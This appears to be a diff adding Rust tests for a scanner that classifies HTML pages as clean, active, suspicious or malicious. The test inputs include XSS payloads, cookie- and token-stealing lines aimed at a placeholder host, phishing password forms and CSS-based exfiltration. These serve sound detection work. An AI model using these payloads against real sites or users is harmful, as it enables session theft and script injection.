@@ -1,0 +1,93 @@
+//! Is what acts in a page told from what only looks like it?
+
+use super::check;
+use crate::{Budget, Limits, Notes, Severity};
+
+fn worst(text: &str) -> Option<Severity> {
+    let mut notes = Notes::default();
+    check(text, &mut notes, &mut Budget::new(Limits::default())).expect("small");
+    notes.worst()
+}
+
+#[test]
+fn quiet_pages_are_clean() {
+    for page in [
+        "<p>hello</p>",
+        "<!doctype html><table border=1><tr><td>onclick=</td></tr></table><style>td{padding:2px}</style>",
+        "<img alt=plot src='data:image/png;base64,iVBORw0KGgo='>",
+        "<a href='https://docs.invalid/page?x=1#a'>docs</a><a href=mailto:x@y.invalid>m</a>",
+        "<meta http-equiv=refresh content='0; url=index.html'>",
+        "<script type='application/json'>{\"a\": \"document.cookie fetch('http://x')\"}</script>",
+        "<textarea><script>alert(1)</script></textarea>",
+        "<p>a < b and <3</p><!-- comment -->",
+    ] {
+        assert_eq!(worst(page), None, "{page}");
+    }
+}
+
+#[test]
+fn charts_are_active() {
+    for page in [
+        "<canvas id=c></canvas><script>document.getElementById('c').getContext('2d').fillRect(0,0,9,9)</script>",
+        "<script src='https://cdn.plot.ly/plotly-2.32.0.min.js'></script><div id=p></div><script>Plotly.newPlot('p',[{y:[1,2]}])</script>",
+        "<a href='javascript:void(0)' onclick='toggle(this)'>more</a>",
+        "<body onload='init()'><p>x",
+        "<img src=https://host.invalid/logo.png>",
+        "<img src=a.png onerror=\"this.style.display='none'\">",
+    ] {
+        assert_eq!(worst(page), Some(Severity::Active), "{page}");
+    }
+}
+
+#[test]
+fn pages_that_lead_away_are_suspicious() {
+    for page in [
+        "<base href='https://a.invalid/'><form><input type=password></form>",
+        "<meta http-equiv=refresh content='0;url=https://a.invalid/login'>",
+        "<META HTTP-EQUIV='Refresh' CONTENT=\"5; URL='//a.invalid'\">",
+        "<script>alert(1)</script><!--",
+        "<a href='&#106;ava&#x09;script:alert(1)'>open</a>",
+        "<a href='java\nscript:alert(1)'>open</a>",
+        "<img src=x onerror=alert(1)>",
+        "<svg/onload=alert(1)>",
+        "<details open ontoggle=alert(1)>",
+        "<iframe src=https://a.invalid></iframe>",
+        "<form method=post action=//a.invalid><input name=q></form>",
+        "<script src=//a.invalid/x.js></script>",
+        "<img src='https://a.invalid/p?d=eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzG'>",
+        "<button formaction='https://a.invalid/'>go</button>",
+        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    ] {
+        assert_eq!(worst(page), Some(Severity::Suspicious), "{page}");
+    }
+}
+
+#[test]
+fn attacks_are_malicious() {
+    for page in [
+        "<img src=x onerror=\"fetch('https://a.invalid/'+localStorage.token)\">",
+        "<form method=post action='https://a.invalid/p'><input type=password name=p></form>",
+        "<form><input type=&#112;assword><button formaction=https://a.invalid>",
+        "<script>new Image().src='https://a.invalid/c?'+document.cookie</script>",
+        "<script>navigator.serviceWorker.register('/files/sw.js',{scope:'/'})</script>",
+        "<script>eval(unescape('%61'));window['ev'+'al'](atob('YQ=='))</script>",
+        "<iframe src='javascript:alert(1)'></iframe>",
+        "<iframe src=data:text/html;base64,PHNjcmlwdD4=></iframe>",
+        "<svg><style><img src=x onerror=alert(1)></style></svg>",
+        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
+        "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
+        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+        "<style>input[value^=a]{background:url(https://a.invalid/a)}</style>",
+    ] {
+        assert_eq!(worst(page), Some(Severity::Malicious), "{page}");
+    }
+}
+
+#[test]
+fn cut_pages_do_not_panic() {
+    let page = "<svg><a href='data:text/html;base64,é'><style>é<img onerror=x></style><iframe srcdoc='&lt;é'><meta http-equiv=refresh content='0;urlé'><!--";
+    for (at, _) in page.char_indices() {
+        worst(&page[at..]);
+        worst(&page[..at]);
+    }
+}
